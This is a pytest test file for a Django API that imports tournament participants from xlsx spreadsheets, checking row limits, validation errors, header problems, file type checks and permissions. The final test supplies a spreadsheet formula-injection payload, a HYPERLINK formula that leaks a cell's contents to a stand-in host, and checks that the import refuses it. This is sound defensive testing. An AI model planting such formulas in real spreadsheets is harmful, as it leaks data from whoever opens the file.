"""The participant import from a spreadsheet, through the API."""

from __future__ import annotations

import io
import re
from datetime import date, datetime
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook
from rest_framework.test import APIClient

from tests import factories
from tournaments.models import Participant

pytestmark = pytest.mark.django_db

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _upload(rows: list[list[Any]], name: str = "players.xlsx") -> SimpleUploadedFile:
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return SimpleUploadedFile(name, buffer.getvalue(), content_type=XLSX)


def _import(client: APIClient, tournament, upload: SimpleUploadedFile):
    return client.post(
        f"/api/tournaments/{tournament.pk}/participants/import/",
        {"file": upload},
        format="multipart",
    )


# --------------------------------------------------------------------------- import


def test_good_file_of_126_rows_imports_everyone(organiser_api):
    tournament = factories.make_tournament()
    midnight = datetime(1993, 8, 4, 0, 0)  # noqa: DTZ001 - Excel cells have no time zone
    birthdays = [date(1990, 5, 1), "1991-06-02", "03.07.1992", midnight, None]
    rows: list[list[Any]] = [[" Name", "NATIONALITY", "Birth_Date", "age_approved"]]
    for i in range(126):
        rows.append([f"Spieler {i + 1}", "de" if i % 2 else "AT", birthdays[i % 5], None])
    rows[5][2:] = [date(2020, 1, 1), "ja"]  # 7 on the day, approved
    rows += [[None, None, None, None], ["", "  ", None, None]]  # empty trailing rows

    response = _import(organiser_api, tournament, _upload(rows))
    assert response.status_code == 201, response.json()
    created = response.json()
    assert len(created) == 126
    assert set(created[0]) == {
        "id", "name", "nationality", "birth_date", "age_approved", "status", "pin",
        "checked_in", "player", "federation_player", "language",
    }  # fmt: skip
    assert re.fullmatch(r"[A-Z2-9]{6}", created[0]["pin"])
    assert created[0] == {
        "id": created[0]["id"], "name": "Spieler 1", "nationality": "AT",
        "birth_date": "1990-05-01", "age_approved": False, "status": "active",
        "pin": created[0]["pin"], "checked_in": False, "player": None,
        "federation_player": None, "language": None,
    }  # fmt: skip
    assert [c["birth_date"] for c in created[1:4]] == ["1991-06-02", "1992-07-03", "1993-08-04"]
    assert created[4]["age_approved"] is True
    assert tournament.participants.count() == 126

    one_more = _import(organiser_api, tournament, _upload([["name", "nationality"], ["X", "DE"]]))
    assert one_more.status_code == 400
    assert one_more.json()["errors"][0]["code"] == "too_many_participants"
    assert tournament.participants.count() == 126


def test_a_127th_row_is_too_many_and_nothing_is_imported(organiser_api):
    tournament = factories.make_tournament()
    rows = [["name", "nationality", "birth_date"]]
    rows += [[f"P{i}", "DE", None] for i in range(127)]
    response = _import(organiser_api, tournament, _upload(rows))
    assert response.status_code == 400
    assert [e["code"] for e in response.json()["errors"]] == ["too_many_participants"]
    assert not tournament.participants.exists()


def test_two_bad_rows_are_named_and_nothing_is_imported(organiser_api):
    tournament = factories.make_tournament()
    rows = [
        ["name", "nationality", "birth_date"],
        ["Anna", "DE", "2001-02-03"],
        ["Ben", "DE", None],
        ["Clara", "XY", None],  # row 4: no such country
        ["David", "AT", None],
        [None, None, None],  # an empty row in between is skipped, rows keep their numbers
        ["Emma", "DE", "31.02.2001"],  # row 7: no such date
        ["Felix", "CH", date(1980, 1, 1)],
    ]
    response = _import(organiser_api, tournament, _upload(rows))
    assert response.status_code == 400
    errors = response.json()["errors"]
    assert [(e["row"], e["code"], e["field"]) for e in errors] == [
        (4, "unknown_nationality", "nationality"),
        (7, "invalid_date", "birth_date"),
    ]
    assert "31.02.2001" in errors[1]["message"]
    assert not Participant.objects.filter(tournament=tournament).exists()


def test_every_kind_of_row_problem_is_reported(organiser_api):
    tournament = factories.make_tournament()
    rows = [
        ["Name", "Nationality", "Birth_date", "Age_approved"],
        [None, "DE", None, None],  # 2: missing name
        ["Ben", None, None, None],  # 3: missing nationality
        ["Clara", "DE", date(2021, 1, 1), None],  # 4: six on the day, not approved
        ["David", "DE", None, "vielleicht"],  # 5: not yes or no
        ["Emma", "DE", "1.1.80", None],  # 6: not a date format we read
        ["Felix", "DE", date(2021, 1, 1), "x"],  # fine: approved
    ]
    errors = _import(organiser_api, tournament, _upload(rows)).json()["errors"]
    assert [(e["row"], e["code"]) for e in errors] == [
        (2, "missing_name"),
        (3, "missing_nationality"),
        (4, "too_young"),
        (5, "invalid_boolean"),
        (6, "invalid_date"),
    ]
    assert not tournament.participants.exists()


def test_header_problems_name_row_1(organiser_api):
    tournament = factories.make_tournament()
    response = _import(organiser_api, tournament, _upload([["name", "geburtstag"], ["A", "B"]]))
    assert response.status_code == 400
    codes = {(e["row"], e["code"]) for e in response.json()["errors"]}
    assert codes == {(1, "unknown_column"), (1, "missing_column")}


def test_a_file_that_is_not_an_xlsx_is_refused(organiser_api):
    tournament = factories.make_tournament()
    csv = SimpleUploadedFile("players.xlsx", b"name,nationality\nAnna,DE\n", content_type=XLSX)
    response = _import(organiser_api, tournament, csv)
    assert response.status_code == 400
    [error] = response.json()["errors"]
    assert error["code"] == "invalid_file"
    assert error["field"] == "file"

    missing = organiser_api.post(
        f"/api/tournaments/{tournament.pk}/participants/import/", {}, format="multipart"
    )
    assert missing.status_code == 400
    assert missing.json()["errors"][0]["field"] == "file"
    assert not tournament.participants.exists()


def test_import_needs_an_organiser_and_no_draw(api, referee, organiser):
    tournament = factories.drawn_tournament(10)
    upload = _upload([["name", "nationality"], ["Late", "DE"]])
    assert _import(APIClient(), tournament, upload).status_code == 401
    referee_client = APIClient()
    referee_client.force_authenticate(referee)
    assert _import(referee_client, tournament, upload).status_code == 403

    api.force_authenticate(organiser)
    upload.seek(0)
    locked = _import(api, tournament, upload)
    assert locked.status_code == 409
    assert locked.json()["errors"][0]["code"] == "draw_locked"
    assert tournament.participants.count() == 10


def test_a_name_beginning_with_equals_is_refused_by_row(organiser_api):
    """Spreadsheets read ``=…`` as a formula: the import refuses it, naming the row."""
    tournament = factories.make_tournament()
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["name", "nationality"])
    sheet.append(["Lena Vogel", "DE"])
    sheet.append(['=HYPERLINK("http://x?leak="&A1,"click")', "DE"])
    sheet["A3"].data_type = "s"  # typed as text, as a spreadsheet program stores it
    buffer = io.BytesIO()
    workbook.save(buffer)
    upload = SimpleUploadedFile("players.xlsx", buffer.getvalue(), content_type=XLSX)
    response = _import(organiser_api, tournament, upload)
    assert response.status_code == 400
    errors = response.json()["errors"]
    assert [(e["code"], e["row"], e["field"]) for e in errors] == [("formula_in_name", 3, "name")]
    assert not Participant.objects.filter(tournament=tournament).exists()
